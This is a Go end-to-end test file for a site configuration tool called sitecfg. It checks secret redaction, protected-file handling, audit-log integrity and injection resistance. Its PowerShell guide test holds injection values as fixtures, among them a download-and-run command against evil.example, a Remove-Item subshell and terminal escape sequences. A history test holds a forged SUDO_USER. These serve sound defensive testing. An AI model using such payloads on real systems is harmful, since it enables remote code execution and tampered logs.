//go:build unix

package e2e

import (
	"crypto/sha256"
	"encoding/hex"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"sitecfg/config"
	"sitecfg/wizard"
)

// Issue 22: values keep their meaning across trust boundaries.

// writeSite writes s as the site config at dir/site-config.yaml.
func writeSite(t *testing.T, dir string, s *config.Site) string {
	t.Helper()
	path := filepath.Join(dir, "site-config.yaml")
	data, err := config.Marshal(s)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, data, 0o600); err != nil {
		t.Fatal(err)
	}
	return path
}

// basicSite is a valid basic-auth config sending through 127.0.0.1:port.
func basicSite(port int, password config.Secret) *config.Site {
	return &config.Site{
		Version: config.Version,
		Written: config.Stamp{At: time.Date(2026, 12, 1, 9, 0, 0, 0, time.UTC), By: "sitecfg test"},
		SMTP: config.SMTP{Enabled: true, Auth: config.AuthBasic, Server: "127.0.0.1", Port: port, Security: config.SecurityStartTLS,
			Username: "relay@example.com", Password: password, From: "alerts@example.com",
			DefaultRecipients: []string{"noc@example.com"}},
		Emails: &config.Emails{UIAdmin: "admin@example.com", UISupport: "support@example.com", AdmiralAlerts: "health@example.com"},
	}
}

// Point 3: a hand-edited config whose password YAML reads as an alias,
// an anchor or a tag: every command that reads it refuses it naming
// smtp.password, and none prints the password.
func TestHandEditedYAMLNeverEchoesTheSecret(t *testing.T) {
	t.Parallel()
	const canary = "Secret-Canary-Yaml-31"
	for _, line := range []string{"password: *" + canary, "password: &" + canary, "password: !!int " + canary, "password: !" + canary} {
		dir := t.TempDir()
		path := writeSite(t, dir, basicSite(1, config.Secret{Value: "placeholder"}))
		b, _ := os.ReadFile(path)
		os.WriteFile(path, []byte(strings.Replace(string(b), "password: placeholder", line, 1)), 0o600)
		answers := filepath.Join(dir, "a.yaml")
		b, _ = os.ReadFile(testdata("answers", "basic-loopback.yaml"))
		os.WriteFile(answers, b, 0o600)
		for _, args := range [][]string{
			{"check"}, {"check", "--json"}, {"export"}, {"guide", "microsoft"}, {"history"},
			{"apply", "--answers", answers, "--skip-check"}, {"recovery-codes", "--user", "siteadmin"},
			{"reset-password", "--user", "siteadmin"}, {"--accessible"},
		} {
			r := runBin(t, dir, []string{"SITECFG_TEST_PORT=2525", "SITECFG_TEST_SMTP_PASSWORD=x-Pass-1"}, "", append(args, "--config", path)...)
			if strings.Contains(r.stdout+r.stderr, canary) {
				t.Errorf("%s: %v printed the password:\n%s%s", line, args, r.stdout, r.stderr)
			}
			if args[0] == "history" {
				continue
			}
			if (r.code == 0 && args[0] != "guide") || !strings.Contains(r.stdout+r.stderr, "smtp.password") {
				t.Errorf("%s: %v: exit %d, the field is not named:\n%s%s", line, args, r.code, r.stdout, r.stderr)
			}
		}
	}
}

// Point 4: a typed password that starts with file: stays a password: the
// config keeps it literal, check logs in with it, export writes
// ${SMTP_PASSWORD} in its place.
func TestTypedPasswordThatLooksLikeAReferenceStaysLiteral(t *testing.T) {
	t.Parallel()
	const typed = "file:Hunter2-Secret!"
	srv, err := startSMTPWith(t, typed)
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	cfg := filepath.Join(dir, "site-config.yaml")
	answers := accessibleAnswers(srv, false)
	if r := runBin(t, dir, nil, strings.Join(answers, "\n")+"\n", "--accessible", "--config", cfg); r.code != 0 {
		t.Fatalf("wizard: exit %d\n%s\n%s", r.code, r.stdout, r.stderr)
	}
	site, _, err := config.Load(cfg)
	if err != nil || site.SMTP.Password != (config.Secret{Value: typed}) {
		t.Fatalf("stored password: %#v %v", site.SMTP.Password, err)
	}
	if r := runBin(t, dir, nil, "", "check", "--config", cfg); r.code != 0 || strings.Contains(r.stdout+r.stderr, "Hunter2") {
		t.Errorf("check: exit %d\n%s\n%s", r.code, r.stdout, r.stderr)
	}
	r := runBin(t, dir, nil, "", "export", "--config", cfg)
	if r.code != 0 || strings.Contains(r.stdout, "Hunter2") || !strings.Contains(r.stdout, "password: ${SMTP_PASSWORD}") {
		t.Errorf("export: exit %d\n%s\n%s", r.code, r.stdout, r.stderr)
	}
}

// Point 4: a config written by an earlier version stores references as
// strings: they are read as references, once, shown as a migration, and
// the next write stores the mapping form.
func TestOlderReferenceStringsAreMigrated(t *testing.T) {
	t.Parallel()
	srv, err := startSMTPWith(t, "Relay-Pass-Env-7")
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	s := basicSite(srv.Port, config.Secret{Value: "placeholder"})
	s.SMTP.CAFile = srv.CAFile
	path := writeSite(t, dir, s)
	b, _ := os.ReadFile(path)
	old := strings.Replace(strings.Replace(string(b), "password: placeholder", "password: ${SMTP_PASSWORD}", 1), "  refs: mapping\n", "", 1)
	os.WriteFile(path, []byte(old), 0o600)
	env := []string{"SMTP_PASSWORD=Relay-Pass-Env-7"}
	r := runBin(t, dir, env, "", "check", "--json", "--config", path)
	if r.code != 0 || !strings.Contains(r.stdout, "{env: SMTP_PASSWORD}") {
		t.Errorf("check of an older file: exit %d\n%s\n%s", r.code, r.stdout, r.stderr)
	}
	exported := filepath.Join(dir, "exported.yaml")
	r = runBin(t, dir, env, "", "export", "--config", path)
	os.WriteFile(exported, []byte(r.stdout), 0o600)
	if r = runBin(t, dir, env, "", "apply", "--answers", exported, "--skip-check", "--config", path); r.code != 0 {
		t.Fatalf("apply: exit %d\n%s", r.code, r.stderr)
	}
	b, _ = os.ReadFile(path)
	if !strings.Contains(string(b), "password: {env: SMTP_PASSWORD}") {
		t.Errorf("the reference was not rewritten in the mapping form:\n%s", b)
	}
}

// Point 2 (and 13): --metrics and --bundle replace an earlier output,
// never the config, its files, a recovery-codes file or
// its staged copy, the CA file, a FIFO; a killed write's temporary file
// is removed.
func TestCheckOutputsNeverReplaceProtectedFiles(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	s := basicSite(1, config.Secret{Value: "Relay-Pass-Out-5"})
	ca := filepath.Join(dir, "ca.pem")
	os.WriteFile(ca, []byte("-----BEGIN CERTIFICATE-----\nnot really\n-----END CERTIFICATE-----\n"), 0o644)
	s.SMTP.CAFile = ca
	path := writeSite(t, dir, s)
	os.WriteFile(path+".bak", []byte("backup\n"), 0o600)
	os.WriteFile(path+".audit.jsonl", []byte("{}\n"), 0o600)
	codes := filepath.Join(dir, "siteadmin-recovery-codes.txt")
	os.WriteFile(codes, []byte("Recovery codes for the UI admin \"siteadmin\"\nAAAA-BBBB\n"), 0o600)
	pending := filepath.Join(dir, ".siteadmin-recovery-codes.txt.pending")
	os.WriteFile(pending, []byte("Recovery codes for the UI admin \"siteadmin\"\nCCCC-DDDD\n"), 0o600)
	other := filepath.Join(dir, "notes.txt")
	os.WriteFile(other, []byte("an operator's notes\n"), 0o600)
	fifo := filepath.Join(dir, "fifo")
	if err := syscall.Mkfifo(fifo, 0o600); err != nil {
		t.Fatal(err)
	}
	os.Symlink(codes, filepath.Join(dir, "codes-link"))
	snapshot := func() map[string]string {
		m := map[string]string{}
		for _, p := range []string{path, path + ".bak", path + ".audit.jsonl", ca, codes, pending, other} {
			b, _ := os.ReadFile(p)
			m[p] = string(b)
		}
		return m
	}
	before := snapshot()
	for _, flag := range []string{"--metrics", "--bundle"} {
		for _, out := range []string{path, path + ".bak", path + ".lock", path + ".audit.jsonl", ca, codes, "codes-link", pending, fifo} {
			r := runBin(t, dir, nil, "", "check", "--config", path, "--timeout", "2s", flag, out)
			if !strings.Contains(r.stderr, "choose another") {
				t.Errorf("check %s %s: exit %d, not refused:\n%s", flag, out, r.code, r.stderr)
			}
			if fi, err := os.Lstat(fifo); err != nil || fi.Mode()&os.ModeNamedPipe == 0 {
				t.Fatalf("check %s %s: the FIFO was replaced", flag, out)
			}
		}
	}
	for p, was := range snapshot() {
		if before[p] != was {
			t.Errorf("%s was replaced", p)
		}
	}
	// Its own files: written, and written again; a killed run's
	// temporary file goes.
	metrics := filepath.Join(dir, "sitecfg.prom")
	stale := filepath.Join(dir, ".sitecfg.prom.tmp-12345")
	os.WriteFile(stale, []byte("half"), 0o644)
	old := time.Now().Add(-time.Hour)
	os.Chtimes(stale, old, old)
	bundle := filepath.Join(dir, "bundle.tar.gz")
	for range 2 {
		r := runBin(t, dir, nil, "", "check", "--config", path, "--timeout", "2s", "--metrics", metrics, "--bundle", bundle)
		if strings.Contains(r.stderr, "choose another") {
			t.Fatalf("own outputs refused:\n%s", r.stderr)
		}
	}
	if b, err := os.ReadFile(metrics); err != nil || !strings.Contains(string(b), "sitecfg_check_success 0") {
		t.Errorf("metrics: %v\n%s", err, b)
	}
	if _, err := os.Stat(bundle); err != nil {
		t.Error(err)
	}
	if _, err := os.Stat(stale); err == nil {
		t.Error("a killed write's temporary file was left")
	}
}

// startSMTPWith is startSMTP with the password the server accepts.
func startSMTPWith(t *testing.T, password string) (*wizard.DemoServer, error) {
	t.Helper()
	srv, err := wizard.StartDemoServer(wizard.DemoServerOptions{Dir: t.TempDir(), Username: "relay@example.com", Password: password})
	if err == nil {
		t.Cleanup(func() { srv.Close() })
	}
	return srv, err
}

// Point 5: values a hand-edited config gives `guide microsoft` never reach
// its PowerShell as code: an invalid tenant or mailbox is not filled in
// (placeholders, and a note naming the field), and validation refuses a
// mailbox PowerShell would read as code.
func TestGuideNeverPrintsInjectedPowerShell(t *testing.T) {
	t.Parallel()
	b, _ := os.ReadFile(testdata("answers", "microsoft.yaml"))
	for _, tc := range []struct{ from, to, field string }{
		{"tenant_id: contoso.onmicrosoft.com", "tenant_id: 'contoso.com; iwr https://evil.example/x | iex; # x'", "smtp.oauth.tenant_id"},
		{"username: alerts@contoso.com", "username: \"alerts\u2019+$(Remove-Item C:/x)+\u2019@contoso.com\"", "smtp.username"},
		{"username: alerts@contoso.com", "username: \"alerts$x|y@contoso.com\"", "smtp.username"},
		{"tenant_id: contoso.onmicrosoft.com", "tenant_id: \"contoso\\e]0;x\\a.com\"", "smtp.oauth.tenant_id"},
	} {
		dir := t.TempDir()
		answers := filepath.Join(dir, "a.yaml")
		os.WriteFile(answers, []byte(strings.Replace(string(b), tc.from, tc.to, 1)), 0o600)
		// apply refuses it (the mailbox by the new rule, the tenant as before).
		env := []string{"SMTP_OAUTH_CLIENT_SECRET=Canary-Client-Secret-5"}
		r := runBin(t, dir, env, "", "apply", "--answers", answers, "--skip-check", "--config", filepath.Join(dir, "site-config.yaml"))
		if r.code == 0 || !strings.Contains(r.stdout+r.stderr, tc.field) {
			t.Errorf("%s: apply: exit %d\n%s%s", tc.to, r.code, r.stdout, r.stderr)
		}
		// A hand-edited config holding it: the guide fills nothing in.
		site, ps := config.ParseAnswers([]byte(strings.Replace(string(b), tc.from, tc.to, 1)), dir)
		_ = ps
		s := site.Build(nil, time.Now(), "hand")
		path := writeSite(t, dir, s)
		for _, args := range [][]string{{"guide", "microsoft"}, {"guide", "microsoft", "--script"}} {
			r := runBin(t, dir, nil, "", append(args, "--config", path)...)
			for _, bad := range []string{"iwr", "Remove-Item", "$x|y", "\x1b"} {
				if strings.Contains(r.stdout, bad) {
					t.Errorf("%s: %v printed %q:\n%s", tc.to, args, bad, r.stdout)
				}
			}
			if r.code != 0 || !strings.Contains(r.stderr, tc.field) || !strings.Contains(r.stderr, "placeholders") {
				t.Errorf("%s: %v: exit %d\n%s", tc.to, args, r.code, r.stderr)
			}
		}
	}
}

// Points 7 and 8: a SUDO_USER with newlines and terminal characters
// cannot forge a history line nor reach the terminal raw (text or
// --json); validation refuses invisible characters in addresses and the
// SMTP username; export of a hand-edited config escapes them.
func TestHistoryAndOutputsStayOneEscapedLine(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	cfg := filepath.Join(dir, "site-config.yaml")
	answers := filepath.Join(dir, "a.yaml")
	b, _ := os.ReadFile(testdata("answers", "basic-loopback.yaml"))
	os.WriteFile(answers, b, 0o600)
	forged := "alice\n2026-12-01 09:00:00Z  bob@host  apply           changed smtp.password\u202e\u009b31m"
	env := []string{"SITECFG_TEST_PORT=2525", "SITECFG_TEST_SMTP_PASSWORD=x-Pass-1", "SUDO_USER=" + forged}
	if r := runBin(t, dir, env, "", "apply", "--answers", answers, "--skip-check", "--config", cfg); r.code != 0 {
		t.Fatalf("apply: exit %d\n%s", r.code, r.stderr)
	}
	r := runBin(t, dir, nil, "", "history", "--config", cfg)
	if n := strings.Count(strings.TrimSpace(r.stdout), "\n") + 1; r.code != 0 || n != 1 || strings.Contains(r.stdout, "bob@host  apply") && !strings.Contains(r.stdout, `alice\n`) {
		t.Errorf("history: exit %d, %d lines for one entry:\n%s", r.code, n, r.stdout)
	}
	r = runBin(t, dir, nil, "", "history", "--json", "--config", cfg)
	if r.code != 0 || strings.ContainsAny(r.stdout, "\u202e\u009b") || !strings.Contains(r.stdout, `\u202e`) {
		t.Errorf("history --json: exit %d, raw characters or none escaped:\n%q", r.code, r.stdout)
	}
	// Validation: an address or a username with U+202E or U+200B.
	for _, tc := range []struct{ from, to, field string }{
		{"ui_admin: Admin@Example.com", "ui_admin: \"ad\u202emin@example.com\"", "emails.ui_admin"},
		{"username: alerts@example.com", "username: \"ale\u200brts@example.com\"", "smtp.username"},
	} {
		os.WriteFile(answers, []byte(strings.Replace(string(b), tc.from, tc.to, 1)), 0o600)
		r := runBin(t, dir, env[:2], "", "apply", "--answers", answers, "--skip-check", "--dry-run", "--config", cfg)
		if r.code == 0 || !strings.Contains(r.stderr, tc.field) || strings.ContainsAny(r.stdout+r.stderr, "\u202e\u200b") {
			t.Errorf("%s: exit %d\n%s%s", tc.to, r.code, r.stdout, r.stderr)
		}
	}
	// A hand-edited config holding one: export escapes it.
	s := basicSite(2525, config.Secret{Value: "x-Pass-1"})
	s.Emails.UIAdmin = "ad\u202emin@example.com"
	path := writeSite(t, t.TempDir(), s)
	r = runBin(t, dir, nil, "", "export", "--config", path)
	if r.code != 0 || strings.Contains(r.stdout, "\u202e") || !strings.Contains(r.stdout, `ad\u202Emin@example.com`) {
		t.Errorf("export: exit %d\n%q", r.code, r.stdout)
	}
}

// Point 6: the audit log's SHA-256 of the config is no password oracle:
// a file rebuilt from everything the outputs show (the export, the
// history's times) with the right password does not hash to what the log
// recorded — the file holds a random nonce no output prints.
func TestDriftHashIsNoPasswordOracle(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	cfg := filepath.Join(dir, "site-config.yaml")
	answers := filepath.Join(dir, "a.yaml")
	b, _ := os.ReadFile(testdata("answers", "basic-loopback.yaml"))
	const password = "Guessable-Pass-1"
	os.WriteFile(answers, []byte(strings.Replace(string(b), "${SITECFG_TEST_SMTP_PASSWORD}", password, 1)), 0o600)
	env := []string{"SITECFG_TEST_PORT=2525"}
	if r := runBin(t, dir, env, "", "apply", "--answers", answers, "--skip-check", "--config", cfg); r.code != 0 {
		t.Fatalf("apply: exit %d\n%s", r.code, r.stderr)
	}
	site, _, err := config.Load(cfg)
	if err != nil {
		t.Fatal(err)
	}
	if len(site.Written.Nonce) < 32 {
		t.Fatalf("no nonce in the written config: %q", site.Written.Nonce)
	}
	var outputs string
	for _, args := range [][]string{{"history", "--json"}, {"history"}, {"export"}, {"check", "--json", "--timeout", "1s"}} {
		r := runBin(t, dir, nil, "", append(args, "--config", cfg)...)
		outputs += r.stdout + r.stderr
	}
	if strings.Contains(outputs, site.Written.Nonce) || strings.Contains(outputs, password) {
		t.Fatal("an output prints the nonce or the password")
	}
	// The attacker's rebuild: every byte but the nonce, the right password.
	nonce := site.Written.Nonce
	site.Written.Nonce = "-"
	guess, _ := config.Marshal(site)
	site.Written.Nonce = nonce
	guess = []byte(strings.Replace(string(guess), "  nonce: '-'\n", "", 1))
	var after string
	r := runBin(t, dir, nil, "", "history", "--json", "--config", cfg)
	if i := strings.Index(r.stdout, `"after": "`); i >= 0 {
		after = r.stdout[i+10 : i+10+64]
	}
	// The rebuild is exact but for the nonce, and the log records the file.
	real, _ := os.ReadFile(cfg)
	nonceLine := "  nonce: " + site.Written.Nonce + "\n"
	if string(guess) != strings.Replace(string(real), nonceLine, "", 1) {
		t.Fatalf("the rebuild differs from the file in more than the nonce:\n%s\n%s", guess, real)
	}
	if sum := sha256.Sum256(real); hex.EncodeToString(sum[:]) != after {
		t.Fatalf("the log does not record the file's SHA-256 (%s)", after)
	}
	sum := sha256.Sum256(guess)
	if after == "" || hex.EncodeToString(sum[:]) == after {
		t.Errorf("the recorded hash (%q) confirms the password guessed from the outputs", after)
	}
}

// Point 12: the audit log cannot be defeated silently: with a FIFO or a
// symlink in its place, apply --json says so in its JSON; a log grown past
// the read bound still serves history and drift, and the next write
// rotates it.
func TestAuditLogProblemsAreSaidAndBigLogsRotate(t *testing.T) {
	t.Parallel()
	b, _ := os.ReadFile(testdata("answers", "basic-loopback.yaml"))
	env := []string{"SITECFG_TEST_PORT=2525", "SITECFG_TEST_SMTP_PASSWORD=x-Pass-1"}
	for _, kind := range []string{"fifo", "symlink"} {
		dir := t.TempDir()
		cfg := filepath.Join(dir, "site-config.yaml")
		answers := filepath.Join(dir, "a.yaml")
		os.WriteFile(answers, b, 0o600)
		if kind == "fifo" {
			syscall.Mkfifo(cfg+".audit.jsonl", 0o600)
		} else {
			os.Symlink(filepath.Join(dir, "elsewhere.jsonl"), cfg+".audit.jsonl")
		}
		r := runBin(t, dir, env, "", "apply", "--answers", answers, "--skip-check", "--json", "--config", cfg)
		if r.code != 0 || !strings.Contains(r.stdout, `"warnings"`) || !strings.Contains(r.stdout, "audit log") {
			t.Errorf("%s: apply --json: exit %d, no warning in the JSON:\n%s", kind, r.code, r.stdout)
		}
	}
	if testing.Short() {
		return // writes a 65 MiB log
	}
	dir := t.TempDir()
	cfg := filepath.Join(dir, "site-config.yaml")
	answers := filepath.Join(dir, "a.yaml")
	os.WriteFile(answers, b, 0o600)
	if r := runBin(t, dir, env, "", "apply", "--answers", answers, "--skip-check", "--config", cfg); r.code != 0 {
		t.Fatalf("apply: exit %d\n%s", r.code, r.stderr)
	}
	log := cfg + ".audit.jsonl"
	line, _ := os.ReadFile(log)
	junk := strings.Repeat(`{"time":"2026-01-01T00:00:00Z","command":"old","result":0,"written":false}`+"\n", (65<<20)/75+1)
	os.WriteFile(log, append([]byte(junk), line...), 0o600)
	r := runBin(t, dir, nil, "", "history", "--config", cfg)
	if r.code != 0 || !strings.Contains(r.stdout, "apply") || strings.Contains(r.stdout, "edited outside") {
		t.Errorf("history of a 65 MiB log: exit %d\n%.300s\n%s", r.code, r.stdout, r.stderr)
	}
	os.WriteFile(answers, []byte(strings.Replace(string(b), "noc@example.com, ", "", 1)), 0o600)
	if r := runBin(t, dir, env, "", "apply", "--answers", answers, "--skip-check", "--config", cfg); r.code != 0 || strings.Contains(r.stdout+r.stderr, "edited outside") {
		t.Fatalf("apply over a 65 MiB log: exit %d\n%s%s", r.code, r.stdout, r.stderr)
	}
	if fi, err := os.Stat(log); err != nil || fi.Size() > 1<<20 {
		t.Errorf("the log was not rotated: %v", err)
	}
	if _, err := os.Stat(log + ".1"); err != nil {
		t.Errorf("the old log was not kept: %v", err)
	}
	r = runBin(t, dir, nil, "", "check", "--json", "--timeout", "1s", "--config", cfg)
	if strings.Contains(r.stdout, "changed_outside") {
		t.Errorf("drift after rotation:\n%s", r.stdout)
	}
}

// Point 15: export → apply on the same cluster, with the secret given as
// the environment variable the export names: apply says plainly that the
// stored secret became a reference; a wizard re-run where that variable
// is not set does not offer to keep it.
func TestExportApplySaysWhereTheSecretNowLives(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	cfg := filepath.Join(dir, "site-config.yaml")
	answers := filepath.Join(dir, "a.yaml")
	b, _ := os.ReadFile(testdata("answers", "basic-loopback.yaml"))
	os.WriteFile(answers, []byte(strings.Replace(string(b), "${SITECFG_TEST_SMTP_PASSWORD}", "Stored-Pass-15", 1)), 0o600)
	env := []string{"SITECFG_TEST_PORT=2525"}
	if r := runBin(t, dir, env, "", "apply", "--answers", answers, "--skip-check", "--config", cfg); r.code != 0 {
		t.Fatalf("apply: exit %d\n%s", r.code, r.stderr)
	}
	r := runBin(t, dir, nil, "", "export", "--config", cfg)
	exported := filepath.Join(dir, "exported.yaml")
	os.WriteFile(exported, []byte(r.stdout), 0o600)
	r = runBin(t, dir, []string{"SMTP_PASSWORD=Stored-Pass-15"}, "", "apply", "--answers", exported, "--skip-check", "--config", cfg)
	if r.code != 0 || !strings.Contains(r.stderr, "smtp.password: the saved config held the secret itself; it now holds the reference ${SMTP_PASSWORD}") {
		t.Errorf("apply of the export: exit %d, not said:\n%s", r.code, r.stderr)
	}
	// The wizard, without SMTP_PASSWORD: told to type it, and not
	// offered to keep it.
	r = runBin(t, dir, nil, strings.Repeat("\n", 40), "--accessible", "--config", cfg)
	if !strings.Contains(r.stdout+r.stderr, "smtp.password cannot be kept") || strings.Contains(r.stdout, "SMTP password (stored") {
		t.Errorf("wizard re-run: exit %d\n%s\n%s", r.code, r.stdout, r.stderr)
	}
	if !strings.Contains(r.stdout+r.stderr, "reference ${SMTP_PASSWORD} cannot be read here; type the secret") || strings.Contains(r.stdout, "removed smtp.password") {
		t.Errorf("the wizard did not require the password:\n%s\n%s", r.stdout, r.stderr)
	}
}

// Point 11: a run whose config write is not followed by its audit line
// (killed in between; here the line could not be written) does not leave
// a false "edited outside sitecfg": the write's intent, recorded before
// it, tells drift it was sitecfg's, and the next line recovers it.
func TestWriteWithoutItsAuditLineIsNoDrift(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	cfg := filepath.Join(dir, "site-config.yaml")
	answers := filepath.Join(dir, "a.yaml")
	b, _ := os.ReadFile(testdata("answers", "basic-loopback.yaml"))
	os.WriteFile(answers, b, 0o600)
	env := []string{"SITECFG_TEST_PORT=2525", "SITECFG_TEST_SMTP_PASSWORD=x-Pass-1"}
	apply := func() runResult {
		return runBin(t, dir, env, "", "apply", "--answers", answers, "--skip-check", "--config", cfg)
	}
	if r := apply(); r.code != 0 {
		t.Fatalf("apply: exit %d\n%s", r.code, r.stderr)
	}
	log := cfg + ".audit.jsonl"
	kept, _ := os.ReadFile(log)
	// The second write loses its line: the log is a FIFO meanwhile.
	os.Rename(log, log+".saved")
	syscall.Mkfifo(log, 0o600)
	os.WriteFile(answers, []byte(strings.Replace(string(b), "noc@example.com, ", "", 1)), 0o600)
	if r := apply(); r.code != 0 {
		t.Fatalf("apply: exit %d\n%s", r.code, r.stderr)
	}
	os.Remove(log)
	os.WriteFile(log, kept, 0o600)
	r := runBin(t, dir, nil, "", "check", "--json", "--timeout", "1s", "--config", cfg)
	if strings.Contains(r.stdout, "changed_outside") {
		t.Errorf("a write whose line was lost is taken for an edit outside sitecfg:\n%s", r.stdout)
	}
	// The next write recovers the line.
	intent := cfg + ".intent"
	if _, err := os.Stat(intent); err != nil {
		t.Fatalf("no intent was recorded: %v", err)
	}
	os.WriteFile(answers, b, 0o600)
	if r := apply(); r.code != 0 {
		t.Fatalf("apply: exit %d\n%s", r.code, r.stderr)
	}
	r = runBin(t, dir, nil, "", "history", "--config", cfg)
	if !strings.Contains(r.stdout, "interrupted (line recovered)") || strings.Contains(r.stdout, "took over an edit") {
		t.Errorf("history:\n%s", r.stdout)
	}
	if _, err := os.Stat(intent); err == nil {
		t.Error("the intent stays after its line")
	}
}

// Point 10: a signal while an SMTP-off apply hashes its passwords and
// codes (most of a second) stops it: nothing written, no codes file, the
// exit code says cancelled — not a write and exit 0 after the signal.
func TestSignalWhileHashingWritesNothing(t *testing.T) {
	slow(t, "hashes passwords: about a second of CPU per run")
	t.Parallel()
	for _, sig := range []syscall.Signal{syscall.SIGTERM, syscall.SIGINT, syscall.SIGHUP} {
		dir := t.TempDir()
		answers := copyAnswers(t, dir, "smtp-off.yaml")
		cfg := filepath.Join(dir, "site-config.yaml")
		cmd := exec.Command(sitecfgBin(t), "apply", "--answers", answers, "--config", cfg)
		cmd.Dir = dir
		cmd.Env = append(os.Environ(), "ADMIN_PASSWORD=Canary-Admin-Sig-1!", "SUPPORT_PASSWORD=Canary-Supp-Sig-2!")
		if err := cmd.Start(); err != nil {
			t.Fatal(err)
		}
		time.Sleep(150 * time.Millisecond) // in the hashing
		cmd.Process.Signal(sig)
		cmd.Wait()
		if code := cmd.ProcessState.ExitCode(); code != exitCancel {
			t.Errorf("%v while hashing: exit %d, want %d", sig, code, exitCancel)
		}
		if _, err := os.Stat(cfg); err == nil {
			t.Errorf("%v while hashing: the config was written", sig)
		}
		if _, err := os.Stat(filepath.Join(dir, "siteadmin-recovery-codes.txt")); err == nil {
			t.Errorf("%v while hashing: a codes file was left", sig)
		}
	}
}

// Point 10: recovery-codes interrupted while it hashes the new codes
// leaves the saved codes working (the config's hashes unchanged).
func TestSignalWhileHashingKeepsTheCodesOnPaper(t *testing.T) {
	slow(t, "hashes passwords: about a second of CPU per run")
	t.Parallel()
	dir, path, _ := setupLocalUsers(t)
	for _, delay := range []time.Duration{50 * time.Millisecond, 100 * time.Millisecond, 150 * time.Millisecond} {
		before, _ := os.ReadFile(path)
		cmd := exec.Command(sitecfgBin(t), "recovery-codes", "--user", "siteadmin", "--force", "--config", path)
		cmd.Dir = dir
		if err := cmd.Start(); err != nil {
			t.Fatal(err)
		}
		time.Sleep(delay)
		cmd.Process.Signal(syscall.SIGTERM)
		cmd.Wait()
		after, _ := os.ReadFile(path)
		code := cmd.ProcessState.ExitCode()
		// -1: the signal came before the handler was set: killed, which
		// writes nothing either.
		if code != exitCancel && code != -1 || string(after) != string(before) {
			t.Errorf("SIGTERM after %v: exit %d (want %d), config changed: %v", delay, code, exitCancel, string(after) != string(before))
		}
	}
}
